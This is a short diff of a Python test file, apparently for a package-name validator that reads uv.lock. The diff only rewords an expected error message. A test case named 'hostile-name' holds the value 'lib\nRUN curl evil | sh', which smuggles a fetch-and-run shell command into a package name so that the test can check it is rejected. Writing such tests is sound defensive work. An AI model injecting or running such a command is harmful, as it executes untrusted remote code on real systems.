@@ -175,7 +175,7 @@ def uv_project_with_path_package(make_project, name: str, directory: str):
         (
             "lib\nRUN curl evil | sh",
             "lib",
-            "uv.lock: locked package name 'lib\\nrun curl evil | sh' is not a valid name",
+            "uv.lock: package name 'lib\\nrun curl evil | sh' is not a valid name",
         ),
     ],
     ids=["outside-the-project", "hostile-name"],
